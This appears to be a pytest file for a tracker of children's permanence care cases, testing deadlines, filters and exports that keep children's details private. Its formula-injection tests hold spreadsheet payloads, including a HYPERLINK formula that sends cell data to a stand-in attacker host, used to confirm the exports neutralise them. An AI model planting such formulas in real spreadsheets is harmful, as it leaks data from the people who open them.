"""`permdocs tracker`: stages from recorded dates, deadlines in working days across bank holidays,
urgency, filters, a case that cannot be read, and the exports (the workbook reopened with
openpyxl, the calendar parsed with icalendar, CSV read back), with no child's details in them and
no cell that could run as a formula. Behaviour only: speed is benchmarks/bench_tracker.py's.

The fixture cases are the samples with their data changed in a temporary folder, each at one
stage of the process as of 23 November 2026 (sample 01's own date).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import multiprocessing
import os
import shutil
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import icalendar
import openpyxl
import pytest
from click.testing import CliRunner

from case_factory import REMOVE, all_rules_profile, set_path, write_case_folder
from permdocs.api import check_case, load_case, track_cases
from permdocs.build import tracker as tracker_module
from permdocs.build.tracker import STAGES, Tracker, collect_cases
from permdocs.build.tracker_export import (
    calendar_bytes,
    cases_csv,
    event_uid,
    table_text,
    tracker_json,
    workbook_bytes,
)
from permdocs.cli import cli
from permdocs.cli.tracker import STAGE_NAMES
from permdocs.letters.confidentiality import restricted_values
from permdocs.load.files import load_case_file
from permdocs.model import Case
from permdocs.write.safe_cells import FORMULA_TRIGGERS, csv_text, is_neutral, neutralise

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_01 = ROOT / "samples" / "01-existing-carer-agreed"
SAMPLE_02 = ROOT / "samples" / "02-siblings-new-carers-confidential"
AS_OF = date(2026, 11, 23)


def sample_data(folder: Path = SAMPLE_01) -> dict[str, Any]:
    """A sample's case data as its file holds it (dates as text), free to change."""
    return copy.deepcopy(load_case_file(folder).data)


def changed(reference: str, changes: dict[str, Any], folder: Path = SAMPLE_01) -> dict[str, Any]:
    data = sample_data(folder)
    data["reference"] = reference
    for path, value in changes.items():
        set_path(data, path, value)
    return data


NOT_DECIDED = {"decision": REMOVE}
NOT_AT_PANEL = {
    **NOT_DECIDED,
    "panel.date": "2026-12-30",  # booked: the papers are due 5 working days before, across Christmas
    "panel.papers_sent_on": REMOVE,
    "panel.final_minutes_received": REMOVE,
    "panel.recommendation": REMOVE,
}
NO_MATCH = {**NOT_DECIDED, "panel": {}, "matching_meeting": {}}
NO_PPM = {**NO_MATCH, "ppm.meeting_date": REMOVE, "ppm.minutes_received": REMOVE}

STAGE_CASES: dict[str, tuple[str, dict[str, Any]]] = {
    "permanent": ("PF-T-PERM", {}),
    "letters": ("PF-T-LETT", {"decision.arrangement_confirmed_on": REMOVE}),
    "decision": ("PF-T-DECI", NOT_DECIDED),
    "panel": ("PF-T-PANE", NOT_AT_PANEL),
    "matching": ("PF-T-MATC", NO_MATCH),
    "PPM": ("PF-T-PPM", NO_PPM),
}
BROKEN = "e-broken"


def write_cases(root: Path) -> Path:
    """One case at each stage (folders named after the stage, as a team might not) and one
    whose case file has a misspelt field and a value that is not a date."""
    for stage, (reference, changes) in STAGE_CASES.items():
        write_case_folder(root / f"case-{stage.lower()}", changed(reference, changes))
    broken = root / BROKEN
    broken.mkdir(parents=True)
    text = (SAMPLE_01 / "case.yaml").read_text(encoding="utf-8")
    text = text.replace("PF-2026-0142", "PF-T-BROK").replace("  gender:", "  gendre:", 1)
    (broken / "case.yaml").write_text(text, encoding="utf-8")
    shutil.copytree(SAMPLE_01 / "attachments", broken / "attachments")
    return root


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_cases(tmp_path_factory.mktemp("tracker") / "cases")


@pytest.fixture(scope="module")
def tracker(root: Path) -> Tracker:
    return collect_cases(root, as_of=AS_OF, jobs=1)


def by_reference(tracker: Tracker) -> dict[str, Any]:
    return {case.reference: case for case in tracker.cases}


# --- stages, deadlines and order ----------------------------------------------------------------


def test_each_case_is_at_the_stage_its_recorded_dates_show(tracker: Tracker) -> None:
    stages = {case.reference: case.stage for case in tracker.cases}
    assert stages == {reference: stage for stage, (reference, _) in STAGE_CASES.items()}
    assert tracker.found == len(STAGE_CASES) + 1


def test_a_date_after_the_as_of_date_is_booked_not_done(root: Path) -> None:
    """The panel case's panel is on 30 December: judged on 31 December it has sat."""
    later = by_reference(collect_cases(root, as_of=date(2026, 12, 31), jobs=1))
    assert later["PF-T-PANE"].stage == "decision"
    assert by_reference(collect_cases(root, as_of=AS_OF, jobs=1))["PF-T-PANE"].stage == "panel"


def test_a_deferred_or_refused_decision_and_a_case_going_straight_to_the_adm(
    tmp_path: Path,
) -> None:
    write_case_folder(
        tmp_path / "deferred",
        changed("PF-T-DEFR", {"decision.outcome": "deferred", "decision.permanent_from": REMOVE}),
    )
    write_case_folder(
        tmp_path / "refused",
        changed("PF-T-REFU", {"decision.outcome": "not-agreed", "decision.permanent_from": REMOVE}),
    )
    no_panel = {
        **NO_MATCH,
        "matching_meeting.date": "2026-11-02",
        "panel.reason_not_to_panel": "Over 12.",
    }
    write_case_folder(tmp_path / "no-panel", changed("PF-T-NOPA", no_panel))
    stages = {c.reference: c.stage for c in collect_cases(tmp_path, as_of=AS_OF).cases}
    assert stages == {"PF-T-DEFR": "decision", "PF-T-REFU": "matching", "PF-T-NOPA": "decision"}


def test_panel_papers_are_due_five_working_days_before_panel_across_christmas(
    tracker: Tracker,
) -> None:
    """Panel on Wednesday 30 December 2026: counting back 5 working days skips Monday 28 (Boxing
    Day's substitute), the weekend and Friday 25, so the papers are due on Monday 21 December;
    from Monday 23 November that is 20 working days (4 + 5 + 5 + 5 + 1)."""
    case = by_reference(tracker)["PF-T-PANE"]
    upcoming = case.next_deadline
    assert (upcoming.rule, upcoming.due, upcoming.working_days) == (
        "panel-papers",
        date(2026, 12, 21),
        20,
    )
    assert upcoming.owner == "panel adviser" and not upcoming.overdue


def test_an_overdue_deadline_counts_its_lateness_in_working_days_across_the_holidays(
    root: Path,
) -> None:
    """On Monday 4 January 2027 the papers due on 21 December are 7 working days late (22, 23,
    24, 29, 30, 31 December and 4 January), though 14 days have passed."""
    case = by_reference(collect_cases(root, as_of=date(2027, 1, 4), jobs=1))["PF-T-PANE"]
    (late,) = [d for d in case.overdue if d.rule == "panel-papers"]
    assert late.due == date(2026, 12, 21)
    assert late.working_days == -7


def test_the_adm_decision_is_due_seven_working_days_after_the_minutes_across_new_year(
    tmp_path: Path,
) -> None:
    """Minutes received Tuesday 22 December 2026: 23, 24, 29, 30, 31 December, 4 and 5 January."""
    minutes = {
        **NOT_DECIDED,
        "panel.date": "2026-12-17",
        "panel.papers_sent_on": "2026-12-09",
        "panel.final_minutes_received": "2026-12-22",
    }
    write_case_folder(tmp_path / "case", changed("PF-T-ADM", minutes))
    (case,) = collect_cases(tmp_path, as_of=date(2026, 12, 22)).cases
    assert case.stage == "decision"
    assert (case.next_deadline.rule, case.next_deadline.due) == ("adm-decision", date(2027, 1, 5))
    assert case.next_deadline.working_days == 7
    assert case.next_deadline.owner == "ADM"


def test_the_tracker_and_check_agree_on_every_overdue_deadline(
    root: Path, tracker: Tracker
) -> None:
    """The tracker's deadlines are the checks' own: each overdue finding of `check` is an overdue
    deadline in the tracker with the same due date, and the other way round."""
    for case in tracker.cases:
        findings = check_case(case.folder, as_of=AS_OF)
        from_check = {
            (f.code.rsplit(".", 1)[0], f.due) for f in findings if f.code.endswith(".overdue")
        }
        from_tracker = {(d.rule, d.due) for d in case.overdue}
        assert from_check == from_tracker, case.reference
    decided = by_reference(tracker)["PF-T-DECI"]
    assert [d.rule for d in decided.overdue] == ["adm-decision"]
    # Minutes received 30 October: due 10 November; on 23 November 9 working days late.
    assert (decided.overdue[0].due, decided.overdue[0].working_days) == (date(2026, 11, 10), -9)


def test_cases_come_most_urgent_first(tracker: Tracker) -> None:
    firsts = [case.deadlines[0].due for case in tracker.cases if case.deadlines]
    assert firsts == sorted(firsts)
    assert tracker.cases[0].reference == "PF-T-DECI"  # the only one with something overdue
    assert tracker.cases[0].overdue and not any(c.overdue for c in tracker.cases[1:])


def test_blockers_are_counted_for_each_owner_who_holds_them(tracker: Tracker) -> None:
    for case in tracker.cases:
        findings = check_case(case.folder, as_of=AS_OF)
        expected: dict[str, int] = {}
        for finding in findings:
            if finding.severity == "blocker":
                expected[finding.owner] = expected.get(finding.owner, 0) + 1
        assert {load.owner: load.blockers for load in case.owners} == expected, case.reference
    assert by_reference(tracker)["PF-T-PPM"].blockers > 0  # a case early on owes a lot


# --- a case that cannot be read -----------------------------------------------------------------


def test_a_case_that_cannot_be_read_is_listed_with_its_place_and_the_others_still_are(
    root: Path, tracker: Tracker
) -> None:
    (bad,) = tracker.unreadable
    assert bad.folder == root / BROKEN and bad.why == "invalid"
    line = next(
        number
        for number, text in enumerate((root / BROKEN / "case.yaml").read_text().splitlines(), 1)
        if "gendre" in text
    )
    assert f"case.yaml:{line}:3: child.gendre" in bad.places
    assert bad.reference == "PF-T-BROK"  # the reference itself could be read
    assert len(tracker.cases) == len(STAGE_CASES)
    assert not tracker.ok


def test_a_missing_profile_or_a_garbled_file_is_unreadable_too(tmp_path: Path) -> None:
    write_case_folder(tmp_path / "a-profile", changed("PF-T-PROF", {"profile": "no-such-council"}))
    (tmp_path / "b-garbled").mkdir()
    (tmp_path / "b-garbled" / "case.yaml").write_text("reference: [\n", encoding="utf-8")
    write_case_folder(tmp_path / "c-good", changed("PF-T-GOOD", {}))
    result = collect_cases(tmp_path, as_of=AS_OF)
    assert [c.reference for c in result.cases] == ["PF-T-GOOD"]
    summaries = {bad.folder.name: bad.summary for bad in result.unreadable}
    assert "council profile cannot be used" in summaries["a-profile"]
    assert "problem" in summaries["b-garbled"]
    garbled = next(bad for bad in result.unreadable if bad.folder.name == "b-garbled")
    assert garbled.places and garbled.places[0].startswith("case.yaml:")


def test_filters_never_hide_a_case_that_cannot_be_read(root: Path) -> None:
    result = collect_cases(root, as_of=AS_OF, stages=["permanent"], owner="ADM")
    assert [bad.folder.name for bad in result.unreadable] == [BROKEN]


# --- filters -------------------------------------------------------------------------------------


def test_the_stage_filter_keeps_only_those_stages(root: Path) -> None:
    result = collect_cases(root, as_of=AS_OF, stages=["panel", "decision"])
    assert {c.reference for c in result.cases} == {"PF-T-PANE", "PF-T-DECI"}
    assert result.stages == ("panel", "decision")
    with pytest.raises(Exception, match="unknown stage: review"):
        collect_cases(root, as_of=AS_OF, stages=["review"])


def test_the_owner_filter_shows_each_case_as_that_owner_sees_it(
    root: Path, tracker: Tracker
) -> None:
    mine = collect_cases(root, as_of=AS_OF, owner="Panel Adviser")
    assert "PF-T-PANE" in {c.reference for c in mine.cases}
    for case in mine.cases:
        assert {d.owner for d in case.deadlines} <= {"panel adviser"}
        assert {f.owner for f in case.findings} <= {"panel adviser"}
        assert case.deadlines or any(f.severity in ("blocker", "warning") for f in case.findings)
    everyone = by_reference(tracker)
    expected = {
        ref
        for ref, case in everyone.items()
        if any(d.owner == "panel adviser" for d in case.deadlines)
        or any(f.owner == "panel adviser" and f.severity != "info" for f in case.findings)
    }
    assert {c.reference for c in mine.cases} == expected
    assert "PF-T-PERM" not in expected
    # The panel adviser's recorded name finds the same cases; so does the role without its case.
    by_name = collect_cases(root, as_of=AS_OF, owner="lorraine doyle")
    assert [c.reference for c in by_name.cases] == [c.reference for c in mine.cases]


def test_the_owner_filter_reads_childs_with_or_without_the_apostrophe(root: Path) -> None:
    plain = collect_cases(root, as_of=AS_OF, owner="childs social worker")
    typed = collect_cases(root, as_of=AS_OF, owner="child\u2019s social worker")
    assert [c.reference for c in plain.cases] == [c.reference for c in typed.cases]
    assert plain.cases and all(
        {d.owner for d in c.deadlines} <= {"child's social worker"} for c in plain.cases
    )


def test_reading_in_worker_processes_gives_the_same_tracker(root: Path, tracker: Tracker) -> None:
    parallel = collect_cases(root, as_of=AS_OF, jobs=2)
    assert parallel.jobs == 2
    assert parallel.cases == tracker.cases
    assert parallel.unreadable == tracker.unreadable


def test_the_cli_stage_names_are_the_trackers() -> None:
    assert STAGE_NAMES == STAGES


# --- what may leave the case folders -------------------------------------------------------------


def personal_values(case: Case, *, professionals: bool) -> list[str]:
    """Every name, address, date of birth and school in the case (and the professionals' names
    when asked), as a person could find them in an export."""
    child = case.child
    values = [child.first_names, child.last_name, child.full_name, child.known_as]
    values += [child.preferred_name or "", child.education.school or ""]
    born = child.date_of_birth
    values += [born.isoformat(), f"{born:%Y%m%d}", f"{born:%d/%m/%Y}"]
    values += [s.name for s in case.siblings] + [p.name for p in case.significant_people]
    for parent in case.birth_parents:
        values.append(parent.name)
        if parent.address:
            values += [
                *parent.address.lines,
                parent.address.town or "",
                parent.address.postcode or "",
            ]
    if case.carers is not None:
        values += [c.full_name for c in case.carers.carers] + [
            c.last_name for c in case.carers.carers
        ]
        values += [member.name for member in case.carers.household]
        if case.carers.address:
            address = case.carers.address
            values += [*address.lines, address.town or "", address.postcode or ""]
    values += [item.value for item in restricted_values(case)]
    if professionals:
        values += [
            person["name"]
            for person in case.professionals.model_dump().values()
            if isinstance(person, dict)
        ]
    return [value for value in set(values) if len(value) >= 4]


@pytest.fixture(scope="module")
def confidential(tmp_path_factory: pytest.TempPathFactory) -> tuple[Tracker, Case]:
    """Sample 02 (a confidential placement) judged under every rule, with a finding whose message
    quotes a name and a restricted word: a sibling kept apart, assessed after the matching
    meeting, who shares the carers' (restricted) surname."""
    root = tmp_path_factory.mktemp("confidential")
    data = sample_data(SAMPLE_02)
    set_path(data, "siblings[1].name", "Chloe Whitfield")
    set_path(data, "siblings[1].sibling_assessment_date", "2026-02-02")
    set_path(data, "panel.papers_sent_on", REMOVE)
    set_path(data, "panel.date", "2026-12-30")
    set_path(data, "decision", REMOVE)
    write_case_folder(root / "Ruby Callender", data)  # a folder named after the child
    tracker = collect_cases(root, as_of=AS_OF, profile=all_rules_profile())
    return tracker, load_case(root / "Ruby Callender").case


def test_the_fixture_has_a_finding_that_quotes_names_and_restricted_words(
    confidential: tuple[Tracker, Case],
) -> None:
    tracker, case = confidential
    messages = " ".join(f.message for f in tracker.cases[0].findings)
    assert "Chloe Whitfield" in messages  # so the checks below can fail
    assert "Whitfield" in {item.value for item in restricted_values(case)}


def all_cells(workbook: Any) -> Iterator[Any]:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_the_workbook_reopens_with_frozen_headers_filters_and_real_dates(
    tracker: Tracker,
) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes(tracker)))
    assert workbook.sheetnames == ["Cases", "Findings", "Deadlines"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert (
            sheet.auto_filter.ref
            == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        )
    cases = workbook["Cases"]
    header = [cell.value for cell in cases[1]]
    rows = [
        dict(zip(header, (c.value for c in row), strict=True)) for row in cases.iter_rows(min_row=2)
    ]
    assert rows[0]["Status"] == "cannot be read" and rows[0]["Folder"] == BROKEN
    read = [row for row in rows if row["Status"] == "read"]
    assert [row["Reference"] for row in read] == [case.reference for case in tracker.cases]
    panel = next(row for row in read if row["Reference"] == "PF-T-PANE")
    assert panel["Due"] == datetime(2026, 12, 21)  # a real date, not text
    assert panel["Working days left"] == 20
    assert panel["Next deadline rule"] == "panel-papers"
    due_cell = next(c for c in cases.iter_rows(min_row=2) if c[0].value == "PF-T-PANE")[
        header.index("Due")
    ]
    assert due_cell.is_date and due_cell.number_format == "dd/mm/yyyy"
    findings = workbook["Findings"]
    total = sum(len(case.findings) for case in tracker.cases)
    assert findings.max_row - 1 == total
    codes = {row[2].value for row in findings.iter_rows(min_row=2)}
    assert codes == {f.code for case in tracker.cases for f in case.findings}


def test_the_workbook_names_fields_and_rules_but_never_a_childs_details(
    confidential: tuple[Tracker, Case],
) -> None:
    tracker, case = confidential
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes(tracker)))
    text = "\n".join(str(c.value) for c in all_cells(workbook) if c.value is not None).casefold()
    for value in personal_values(case, professionals=False):
        assert value.casefold() not in text, value
    finding = next(f for f in tracker.cases[0].findings if "Chloe Whitfield" in f.message)
    assert finding.field in text and finding.code in text  # named by field and rule instead
    props = workbook.properties
    assert "ruby" not in f"{props.title} {props.creator} {props.subject}".casefold()


def test_csv_and_json_hold_no_childs_details_either(confidential: tuple[Tracker, Case]) -> None:
    tracker, case = confidential
    for text in (cases_csv(tracker), tracker_json(tracker), table_text(tracker)):
        for value in personal_values(case, professionals=False):
            assert value.casefold() not in text.casefold(), value


def test_the_calendar_has_one_event_per_deadline_to_come_with_stable_uids(
    tracker: Tracker,
) -> None:
    first = icalendar.Calendar.from_ical(calendar_bytes(tracker, now=datetime(2026, 11, 23, 9)))
    second = icalendar.Calendar.from_ical(calendar_bytes(tracker, now=datetime(2026, 11, 30, 9)))
    events = list(first.walk("VEVENT"))
    expected = {
        event_uid(case.reference, d.key): d.due
        for case in tracker.cases
        for d in case.deadlines
        if not d.overdue
    }
    assert {str(e["UID"]): e.decoded("DTSTART") for e in events} == expected
    assert len(events) == len(expected)
    assert {str(e["UID"]) for e in second.walk("VEVENT")} == set(expected)
    assert all(
        int(b["SEQUENCE"]) > int(a["SEQUENCE"])
        for a, b in zip(events, second.walk("VEVENT"), strict=True)
    )
    panel = next(e for e in events if str(e["UID"]).startswith("PF-T-PANE.panel-papers"))
    assert panel.decoded("DTSTART") == date(2026, 12, 21)
    assert panel.decoded("DTEND") == date(2026, 12, 22)  # an all-day event


def test_a_moved_date_keeps_its_event_uid(tmp_path: Path) -> None:
    """Re-importing after the panel moves updates the event: same UID, new date."""
    folder = tmp_path / "case"
    write_case_folder(folder, changed("PF-T-MOVE", NOT_AT_PANEL))
    before = icalendar.Calendar.from_ical(calendar_bytes(collect_cases(tmp_path, as_of=AS_OF)))
    data = changed("PF-T-MOVE", {**NOT_AT_PANEL, "panel.date": "2027-01-14"})
    (folder / "case.json").write_text(json.dumps(data), encoding="utf-8")
    after = icalendar.Calendar.from_ical(calendar_bytes(collect_cases(tmp_path, as_of=AS_OF)))

    def papers(calendar: Any) -> Any:
        (event,) = [e for e in calendar.walk("VEVENT") if "panel-papers" in str(e["UID"])]
        return event

    assert str(papers(before)["UID"]) == str(papers(after)["UID"])
    assert papers(before).decoded("DTSTART") == date(2026, 12, 21)
    assert papers(after).decoded("DTSTART") == date(2027, 1, 7)


def test_both_parts_before_matching_have_their_own_event(tmp_path: Path) -> None:
    """One rule, two deadlines open at once (Part 2 and Part 3): two events, two UIDs."""
    parts = {
        **NO_MATCH,
        "matching_meeting.date": "2026-12-14",
    }
    write_case_folder(tmp_path / "case", changed("PF-T-PART", parts))
    profile = all_rules_profile()
    (case,) = collect_cases(tmp_path, as_of=AS_OF, profile=profile).cases
    keys = [d.key for d in case.deadlines if d.rule == "parts-before-matching"]
    assert sorted(keys) == ["parts-before-matching:part2", "parts-before-matching:part3"]
    calendar = icalendar.Calendar.from_ical(
        calendar_bytes(collect_cases(tmp_path, as_of=AS_OF, profile=profile))
    )
    uids = [
        str(e["UID"]) for e in calendar.walk("VEVENT") if "parts-before-matching" in str(e["UID"])
    ]
    assert len(set(uids)) == 2


def test_no_calendar_property_holds_a_name_an_address_or_a_date_of_birth(
    confidential: tuple[Tracker, Case],
) -> None:
    tracker, case = confidential
    data = calendar_bytes(tracker)
    calendar = icalendar.Calendar.from_ical(data)
    assert list(calendar.walk("VEVENT"))  # there is something to look at
    texts = [data.decode("utf-8").replace("\r\n ", "")]  # unfolded
    for component in calendar.walk():
        for name, value in component.property_items():
            texts.append(
                f"{name}:{value.to_ical().decode() if hasattr(value, 'to_ical') else value}"
            )
    text = "\n".join(texts).casefold()
    for value in personal_values(case, professionals=True):
        assert value.casefold() not in text, value
    for event in calendar.walk("VEVENT"):
        assert str(event["SUMMARY"]).startswith(f"{case.reference}: ")


# --- formula injection ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n@x",
        '=HYPERLINK("http://x")',
    ],
)
def test_a_cell_that_would_start_a_formula_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(csv_text(["a"], [[text]]))))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("text", ["Priya Ramdas", "panel-papers", "3 Dec", "", "'quoted"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_csv_writes_numbers_and_dates_as_themselves() -> None:
    rows = list(
        csv.reader(
            io.StringIO(csv_text(["n", "d", "b", "x"], [[-3, date(2026, 12, 21), True, None]]))
        )
    )
    assert rows[1] == ["-3", "2026-12-21", "yes", ""]


def test_text_typed_into_a_case_cannot_run_as_a_formula_in_the_csv_or_workbook(
    tmp_path: Path,
) -> None:
    """A professional's name and a folder name are the free text that reaches the cells."""
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    data = changed("PF-T-FORM", {**NOT_AT_PANEL, "professionals.panel_adviser.name": payload})
    write_case_folder(tmp_path / "a-case", data)
    (tmp_path / "@SUM(1+1)").mkdir()
    (tmp_path / "@SUM(1+1)" / "case.yaml").write_text("reference: [\n", encoding="utf-8")
    result = collect_cases(tmp_path, as_of=AS_OF)
    assert result.cases and result.unreadable

    cells = [cell for row in csv.reader(io.StringIO(cases_csv(result))) for cell in row]
    assert all(not cell.startswith(FORMULA_TRIGGERS) for cell in cells)
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    assert f"panel adviser ({payload})" in cells  # inside a cell, where it cannot start a formula

    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes(result)))
    for cell in all_cells(workbook):
        if isinstance(cell.value, str):
            assert cell.data_type == "s" and is_neutral(cell.value), cell.value
            assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
    folder = next(
        c for c in all_cells(workbook) if isinstance(c.value, str) and "SUM(1+1)" in c.value
    )
    assert folder.value == "'@SUM(1+1)"


def test_a_sheet_neutralises_text_and_keeps_numbers_and_dates(tmp_path: Path) -> None:
    from permdocs.write.safe_cells import add_sheet, new_workbook

    workbook = new_workbook()
    rows = [["=1+1", -4, date(2026, 12, 21), "@cmd", "plain", None]]
    add_sheet(workbook, "Sheet", ["=A", "n", "d", "at", "text", "none"], rows)
    workbook.save(tmp_path / "book.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "book.xlsx")["Sheet"]
    assert [c.value for c in sheet[1]] == ["'=A", "n", "d", "at", "text", "none"]
    values = [c.value for c in sheet[2]]
    assert values == ["'=1+1", -4, datetime(2026, 12, 21), "'@cmd", "plain", None]
    assert [c.data_type for c in sheet[2]][:2] == ["s", "n"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:F2"


# --- writing files and the command line ----------------------------------------------------------


def run(*args: str) -> Any:
    return CliRunner().invoke(cli, ["tracker", *args], catch_exceptions=False)


def test_the_command_prints_a_table_and_names_the_unreadable_case(root: Path) -> None:
    result = run("--as-of", AS_OF.isoformat(), str(root))
    assert result.exit_code == 1  # a case could not be read
    lines = result.stdout.splitlines()
    header = next(i for i, line in enumerate(lines) if line.startswith("CASE "))
    assert lines[header + 1].startswith(f"{BROKEN}  CANNOT BE READ")
    rows = [line.split()[0] for line in lines[header + 2 : header + 2 + len(STAGE_CASES)]]
    assert rows[0] == "PF-T-DECI"
    assert sorted(rows) == sorted(reference for reference, _ in STAGE_CASES.values())
    assert "adm-decision" in lines[header + 2] and "9 wd late" in lines[header + 2]
    assert f"{root / BROKEN}: cannot be read" in result.stderr
    assert "unknown field 'gendre'" in result.stderr  # the whole message, on stderr


def test_json_and_csv_formats_read_back(root: Path) -> None:
    payload = json.loads(run("--as-of", AS_OF.isoformat(), "--format", "json", str(root)).stdout)
    assert payload["cases"][0]["reference"] == "PF-T-DECI"
    panel = next(c for c in payload["cases"] if c["reference"] == "PF-T-PANE")
    assert panel["next_deadline"]["due"] == "2026-12-21" and panel["stage"] == "panel"
    assert payload["unreadable"][0]["folder"] == BROKEN
    rows = list(
        csv.DictReader(
            io.StringIO(run("--as-of", AS_OF.isoformat(), "--format", "csv", str(root)).stdout)
        )
    )
    assert {row["Reference"] for row in rows} == {ref for ref, _ in STAGE_CASES.values()} | {
        "PF-T-BROK"
    }


def test_files_are_written_and_never_replaced_without_force(root: Path, tmp_path: Path) -> None:
    xlsx, ics = tmp_path / "out" / "tracker.xlsx", tmp_path / "out" / "deadlines.ics"
    args = ["--as-of", AS_OF.isoformat(), "--xlsx", str(xlsx), "--ics", str(ics), str(root)]
    first = run(*args)
    assert first.exit_code == 1 and xlsx.is_file() and ics.is_file()
    openpyxl.load_workbook(xlsx)
    icalendar.Calendar.from_ical(ics.read_bytes())
    xlsx.write_bytes(b"kept")
    again = run(*args)
    assert again.exit_code == 1 and "already exist" in again.stderr and "--force" in again.stderr
    assert xlsx.read_bytes() == b"kept"
    assert "PF-T-" not in again.stdout  # refused before reading any case
    forced = run("--force", *args)
    assert forced.exit_code == 1 and xlsx.read_bytes() != b"kept"
    assert not [p for p in xlsx.parent.iterdir() if p.name.startswith(".")]  # no temporaries


def test_the_library_call_writes_both_files(root: Path, tmp_path: Path) -> None:
    result = track_cases(root, as_of=AS_OF, xlsx=tmp_path / "t.xlsx", ics=tmp_path / "t.ics")
    assert set(result.written) == {tmp_path / "t.xlsx", tmp_path / "t.ics"}


def test_stage_and_owner_options_filter_the_table(root: Path) -> None:
    staged = run("--as-of", AS_OF.isoformat(), "--stage", "ppm", "--stage", "Matching", str(root))
    shown = {line.split()[0] for line in staged.stdout.splitlines() if line.startswith("PF-T-")}
    assert shown == {"PF-T-PPM", "PF-T-MATC"}
    assert "filtered by stage PPM or matching" in staged.stdout
    assert run("--stage", "review", str(root)).exit_code == 2
    owned = run("--as-of", AS_OF.isoformat(), "--owner", "ADM", "--format", "json", str(root))
    payload = json.loads(owned.stdout)
    assert [c["reference"] for c in payload["cases"]] == ["PF-T-DECI"]
    assert payload["cases"][0]["overdue"][0]["owner"] == "ADM"


def test_an_empty_folder_says_so(tmp_path: Path) -> None:
    result = run(str(tmp_path))
    assert result.exit_code == 0
    assert "No case folders found." in result.stdout


def test_a_booked_date_after_its_deadline_is_shown(tmp_path: Path) -> None:
    """Papers booked to go on 28 December for a panel on 30 December are booked late."""
    write_case_folder(
        tmp_path / "case",
        changed("PF-T-BOOK", {**NOT_AT_PANEL, "panel.papers_sent_on": "2026-12-24"}),
    )
    (case,) = collect_cases(tmp_path, as_of=AS_OF).cases
    upcoming = case.next_deadline
    assert upcoming.booked == date(2026, 12, 24) and upcoming.booked_late
    assert "booked 24 Dec 2026, after its deadline" in table_text(
        collect_cases(tmp_path, as_of=AS_OF)
    )
    assert upcoming.due + timedelta(days=3) == upcoming.booked


def test_the_tracker_imports_no_document_machinery_and_exports_only_when_asked() -> None:
    """Reading and checking is all the tracker does: it never loads docxtpl, lxml and the rest,
    and openpyxl and icalendar only for a workbook or a calendar."""
    from project.test_startup_imports import heavy_in, imported_by

    sample = str(ROOT / "samples")
    modules = imported_by("tracker", "--as-of", AS_OF.isoformat(), sample)
    assert heavy_in(modules) == []
    assert not {"openpyxl", "icalendar"} & modules


_REAL_TRACK_ONE = tracker_module.track_one


def _dies_on_b(folder: Path, task: Any) -> Any:
    """Stands in for the worker's track_one: the process reading folder b dies outright."""
    if folder.name == "b-dies":
        os._exit(3)
    return _REAL_TRACK_ONE(folder, task)


@pytest.mark.skipif(multiprocessing.get_start_method() != "fork", reason="patches forked workers")
def test_a_worker_that_dies_loses_only_its_own_case(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("a-good", "b-dies", "c-good", "d-good"):
        write_case_folder(tmp_path / name, changed(f"PF-T-{name[0].upper()}", {}))
    monkeypatch.setattr(tracker_module, "track_one", _dies_on_b)
    result = collect_cases(tmp_path, as_of=AS_OF, jobs=2)
    assert sorted(c.reference for c in result.cases) == ["PF-T-A", "PF-T-C", "PF-T-D"]
    (dead,) = result.unreadable
    assert dead.folder.name == "b-dies" and dead.why == "failed"
    assert "stopped unexpectedly" in dead.detail


def test_linked_sibling_cases_that_disagree_show_in_the_tracker(tmp_path: Path) -> None:
    """Siblings matched together are judged with each other's cases, as ``check`` judges them:
    a disagreement about the match is in the tracker's row too."""
    root = tmp_path / "cases"
    samples = Path(__file__).resolve().parents[2] / "samples"
    for name in ("02-siblings-new-carers-confidential", "05-sibling-kai-new-carers-confidential"):
        shutil.copytree(samples / name, root / name, ignore=shutil.ignore_patterns("out"))
    as_of = date(2026, 11, 23)

    def sibling_codes() -> dict[str, set[str]]:
        tracker = collect_cases(root, as_of=as_of, jobs=1)
        return {
            row.reference: {f.code for f in row.findings if f.code.startswith("sibling-case")}
            for row in tracker.cases
        }

    assert sibling_codes() == {"PF-2026-0157": set(), "PF-2026-0158": set()}
    kai = root / "05-sibling-kai-new-carers-confidential" / "case.yaml"
    kai.write_text(
        kai.read_text(encoding="utf-8").replace("date: 2026-03-19", "date: 2026-03-26", 1),
        encoding="utf-8",
    )
    assert "sibling-case-differs" in sibling_codes()["PF-2026-0157"]
